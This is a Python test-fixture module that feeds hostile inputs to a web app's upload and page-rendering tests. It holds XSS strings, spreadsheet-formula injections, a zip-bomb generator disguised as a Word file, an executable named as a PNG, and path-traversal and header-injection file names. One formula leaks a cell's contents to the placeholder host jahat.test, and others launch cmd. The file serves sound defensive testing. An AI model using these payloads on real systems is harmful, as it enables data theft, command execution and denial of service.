"""Hostile input for the tests: files that lie about what they are, text that tries to become markup or a
formula, and a way to send an upload under any file name (the test client strips paths from names)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from urllib.parse import quote

from tests.test_case_views import png_bytes

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
MARKUP = f"{SCRIPT}{IMG}<b>tebal</b>"

# What a spreadsheet would read as a formula (OWASP "CSV injection"), one per dangerous first character.
FORMULAS = [
    '=HYPERLINK("http://jahat.test/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def docx_bomb(unpacked_mb: int = 64) -> bytes:
    """A file that passes as a Word document by its first bytes and unpacks to ``unpacked_mb`` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("word/document.xml", b"")
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/media/kosong.bin", "w", force_zip64=True) as member:
            block = b"\0" * (1 << 20)
            for _ in range(unpacked_mb):
                member.write(block)
    return out.getvalue()


def small_docx() -> bytes:
    """A harmless Word document (as far as the content check and the archive's sizes can tell)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<w:document>Berita acara klarifikasi</w:document>")
        archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("bukti.png", png_bytes())
    return out.getvalue()


# (id, file name, content, words of the expected error) for files every upload entry point must refuse.
REFUSED_FILES = [
    ("executable-named-png", "foto-bukti.png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500, "tidak dikenali"),
    (
        "html-with-script",
        "halaman.html",
        f"<!doctype html><html><body>{SCRIPT}</body></html>".encode(),
        "tidak dikenali",
    ),
    ("html-named-jpg", "foto.jpg", f"<html>{SCRIPT}</html>".encode(), "tidak dikenali"),
    (
        "svg-with-script",
        "gambar.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode(),
        "tidak dikenali",
    ),
    (
        "svg-named-png",
        "gambar.png",
        f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
        "tidak dikenali",
    ),
    ("zip-archive", "arsip.zip", plain_zip(), "tidak dikenali"),
    ("zip-bomb-as-docx", "laporan.docx", docx_bomb(), "arsip"),
    ("empty-file", "kosong.png", b"", "kosong"),
]


# File names a client may send; the content is a real PNG. (id, name as sent)
HOSTILE_NAMES = [
    ("unix-path", "../../etc/passwd.png"),
    ("windows-path", "..\\..\\windows\\system32\\x.png"),
    ("nul-byte", "bukti\x00.php.png"),
    ("newline", "bukti\r\nX-Header: jahat.png"),
    ("very-long", "a" * 400 + ".png"),
    ("markup", '<img src=x onerror="alert(1)">.png'),
    ("quotes", 'bukti"; filename="jahat.exe.png'),
    ("right-to-left-override", "bukti\u202egnp.exe.png"),
    ("unicode", "Bukti ünïcödé 証拠 📷.png"),
    ("windows-drive", "C:bukti.png"),
]


def multipart(fields: dict, files: dict[str, list[tuple[str, bytes]]]) -> tuple[bytes, str]:
    """A multipart/form-data body with the file names exactly as given (as RFC 5987 ``filename*``, which
    carries any character), and its content type."""
    boundary = "----netralitas-hostile-boundary"
    parts = []
    for name, value in fields.items():
        values = value if isinstance(value, list | tuple) else [value]
        for item in values:
            parts.append(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + str(item).encode()
            )
    for name, uploads in files.items():
        for filename, content in uploads:
            header = (
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="upload.bin"; '
                f"filename*=UTF-8''{quote(filename, safe='')}\r\nContent-Type: application/octet-stream\r\n\r\n"
            )
            parts.append(header.encode() + content)
    body = b"\r\n".join(parts) + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def post_multipart(client, url, fields, files, **extra):
    body, content_type = multipart(fields, files)
    return client.generic("POST", url, body, content_type=content_type, **extra)


def stored_files(root) -> set[str]:
    root = Path(root)
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def assert_no_markup_from_data(body: str) -> None:
    """The page's markup carries none of the hostile text unescaped."""
    assert SCRIPT not in body
    assert "<img src=x" not in body
    assert "<b>tebal</b>" not in body
